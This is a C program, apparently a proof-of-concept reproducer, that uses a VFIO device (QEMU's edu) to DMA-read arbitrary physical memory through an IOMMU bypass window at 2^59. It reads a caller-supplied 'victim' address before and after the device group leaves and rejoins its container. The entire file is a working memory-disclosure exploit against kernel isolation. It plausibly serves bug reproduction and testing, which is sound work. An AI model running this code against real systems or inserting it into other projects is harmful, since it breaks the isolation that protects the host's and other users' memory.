/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A VFIO user whose device (QEMU's edu) reads real memory that nobody mapped for it, through the
 * bypass window at 2^59: before and after its group left the container and came back.
 *
 *     user GROUP DEVICE REAL-ADDRESS
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/vfio.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE   65536UL
#define IOVA   0x100000UL
#define BYPASS (1UL << 59)

/* edu: registers of its DMA engine, and its buffer as that engine sees it. */
#define EDU_FROM   0x80
#define EDU_TO     0x88
#define EDU_COUNT  0x90
#define EDU_RUN    0x98
#define EDU_BUFFER 0x40000UL

static volatile uint64_t *bar;

static int told(int ret, const char *what)
{
	printf("%s -> %s\n", what, ret < 0 ? strerror(errno) : "ok");
	fflush(stdout);
	if (ret < 0)
		exit(1);
	return ret;
}

/* QEMU's edu has the byte order of the target it was built for: big endian. */
static void dma(uint64_t from, uint64_t to, uint64_t command)
{
	bar[EDU_FROM / 8] = __builtin_bswap64(from);
	bar[EDU_TO / 8] = __builtin_bswap64(to);
	bar[EDU_COUNT / 8] = __builtin_bswap64(64);
	bar[EDU_RUN / 8] = __builtin_bswap64(command);
	while ((__builtin_bswap64(bar[EDU_RUN / 8]) & 1) != 0)
		usleep(10000);
}

static int open_device(int group, const char *name)
{
	struct vfio_region_info registers = {.argsz = sizeof(registers)};
	struct vfio_region_info config = {.argsz = sizeof(config),
					  .index = VFIO_PCI_CONFIG_REGION_INDEX};
	int fd = told(ioctl(group, VFIO_GROUP_GET_DEVICE_FD, name), "GET_DEVICE_FD");
	uint16_t command = 6; /* memory, bus master */
	void *at;

	told(ioctl(fd, VFIO_DEVICE_GET_REGION_INFO, &registers), "registers");
	told(ioctl(fd, VFIO_DEVICE_GET_REGION_INFO, &config), "config space");
	told((int)pwrite(fd, &command, 2, (off_t)config.offset + 4), "command register");
	at = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)registers.offset);
	told(at == MAP_FAILED ? -1 : 0, "mmap of the registers");
	bar = at;
	return fd;
}

static void enter(int container, int group)
{
	told(ioctl(group, VFIO_GROUP_SET_CONTAINER, &container), "SET_CONTAINER");
	told(ioctl(container, VFIO_SET_IOMMU, VFIO_SPAPR_TCE_v2_IOMMU), "SET_IOMMU");
}

/* One page of the user's is mapped; the device carries 64 bytes from elsewhere into it. */
static void look(int container, uint64_t victim, unsigned char *page)
{
	struct vfio_iommu_spapr_register_memory reg = {
		.argsz = sizeof(reg), .vaddr = (uint64_t)page, .size = PAGE};
	struct vfio_iommu_type1_dma_map map = {.argsz = sizeof(map),
					       .flags = VFIO_DMA_MAP_FLAG_READ |
							VFIO_DMA_MAP_FLAG_WRITE,
					       .vaddr = (uint64_t)page,
					       .iova = IOVA,
					       .size = PAGE};

	memset(page, '.', PAGE);
	told(ioctl(container, VFIO_IOMMU_SPAPR_REGISTER_MEMORY, &reg), "REGISTER_MEMORY");
	told(ioctl(container, VFIO_IOMMU_MAP_DMA, &map), "MAP_DMA of one page");
	dma(BYPASS + victim, EDU_BUFFER, 1);
	dma(EDU_BUFFER, IOVA, 3);
	printf("=== the device read: \"");
	for (int i = 0; i < 64; i++)
		putchar(page[i] >= ' ' && page[i] < 127 ? page[i] : '.');
	printf("\"\n");
}

int main(int argc, char **argv)
{
	int container = told(open("/dev/vfio/vfio", O_RDWR), "open container");
	int group = told(open(argv[argc - 3], O_RDWR), "open group");
	uint64_t victim = strtoull(argv[argc - 1], NULL, 0);
	unsigned char *page =
		mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int fd;

	enter(container, group);
	fd = open_device(group, argv[argc - 2]);
	look(container, victim, page);
	munmap((void *)bar, PAGE);
	close(fd);
	printf("=== ARM\n");
	fflush(stdout);
	sleep(5);
	told(ioctl(group, VFIO_GROUP_UNSET_CONTAINER), "UNSET_CONTAINER");
	sleep(1);
	enter(container, group);
	fd = open_device(group, argv[argc - 2]);
	look(container, victim, page);
	return 0;
}
